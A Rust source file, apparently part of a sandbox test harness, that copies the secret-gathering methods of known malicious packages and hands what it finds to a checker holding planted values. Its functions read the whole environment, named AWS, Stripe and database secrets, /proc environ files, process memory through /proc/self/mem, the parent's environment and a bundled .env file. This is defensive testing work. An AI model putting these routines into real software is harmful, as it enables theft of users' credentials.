//! Secrets where they lie: the environment in all the places where it can be read, memory, the
//! parent, a forgotten `.env`. What is found is handed to the ambush as loot; the ambush knows the
//! values and sees whether they are in it.

use crate::instruction::{Instruction, Outcome};
use std::ffi::CStr;
use std::io::{self, Read, Seek, SeekFrom};

/// `ctx` (2022): the whole of `std::env`.
pub fn std_env(it: &Instruction) -> io::Result<Outcome> {
    let all: Vec<String> =
        std::env::vars_os().map(|(k, v)| format!("{}={}", k.display(), v.display())).collect();
    it.loot(all.join("\n").as_bytes());
    Ok(Outcome::Done)
}

/// libc's own view, past Rust's.
pub fn getenv(it: &Instruction) -> io::Result<Outcome> {
    for name in [c"AWS_REGION", c"STRIPE_KEY", c"DB_PASSWORD", c"AWS_SECRET_ACCESS_KEY", c"AWS_SESSION_TOKEN"]
    {
        // SAFETY: the name ends with a NUL; the value, if any, is read at once.
        let value = unsafe {
            let value = libc::getenv(name.as_ptr());
            (!value.is_null()).then(|| CStr::from_ptr(value).to_bytes().to_vec())
        };
        if let Some(value) = value {
            it.loot(&value);
        }
    }
    Ok(Outcome::Done)
}

/// What the kernel serves, of the process and of each thread.
pub fn proc_self_environ(it: &Instruction) -> io::Result<Outcome> {
    it.loot(&std::fs::read("/proc/self/environ")?);
    for task in std::fs::read_dir("/proc/self/task")? {
        it.loot(&std::fs::read(task?.path().join("environ"))?);
    }
    Ok(Outcome::Done)
}

/// The pages where the kernel put the environment, by plain loads: no system call tells.
pub fn initial_stack(it: &Instruction) -> io::Result<Outcome> {
    let maps = std::fs::read_to_string("/proc/self/maps")?;
    let Some((from, to)) = crate::memory::range_named(&maps, "[stack]") else {
        return Err(io::Error::other("no stack in maps"));
    };
    // SAFETY: the kernel has just said that this range is mapped and readable, and a stack does
    // not shrink.
    let stack = unsafe { std::slice::from_raw_parts(from as *const u8, to - from) };
    it.loot(&around_marks(stack));
    Ok(Outcome::Done)
}

/// Every readable page of the process, through /proc/self/mem.
pub fn whole_memory(it: &Instruction) -> io::Result<Outcome> {
    let maps = std::fs::read_to_string("/proc/self/maps")?;
    let mut memory = std::fs::File::open("/proc/self/mem")?;
    for line in maps.lines().filter(|line| line.split_whitespace().nth(1).is_some_and(|p| p.starts_with('r')))
    {
        let Some((from, to)) = crate::memory::range(line) else { continue };
        let mut bytes = vec![0; (to - from).min(64 << 20)];
        if memory.seek(SeekFrom::Start(from as u64)).is_err() || memory.read_exact(&mut bytes).is_err() {
            continue; // [vvar] and the like
        }
        let found = around_marks(&bytes);
        if !found.is_empty() {
            it.loot(&found);
        }
    }
    Ok(Outcome::Done)
}

/// The parent got the same environment from the platform.
pub fn parent_environ(it: &Instruction) -> io::Result<Outcome> {
    let parent = std::os::unix::process::parent_id();
    it.loot(&std::fs::read(format!("/proc/{parent}/environ"))?);
    Ok(Outcome::Done)
}

/// `time_calibrator` and its kin (2026): the file that was packed beside the code.
pub fn dotenv(it: &Instruction) -> io::Result<Outcome> {
    it.loot(&std::fs::read(&it.to)?);
    Ok(Outcome::Done)
}

/// What stands behind each mark in `bytes`: of a password, and of the region, which is no secret and
/// shows that this method finds what is there. The marks are put together here, so that this code
/// does not find itself.
fn around_marks(bytes: &[u8]) -> Vec<u8> {
    let marks: [Vec<u8>; 2] = [["dbpw", "live_"].join("_").into(), ["AWS", "REGION="].join("_").into()];
    let mut found = Vec::new();
    for mark in marks {
        let places = bytes.windows(mark.len()).enumerate().filter(|(_, window)| *window == mark);
        for (at, _) in places.take(32) {
            found.extend_from_slice(&bytes[at..(at + 64).min(bytes.len())]);
            found.push(b'\n');
        }
    }
    found
}
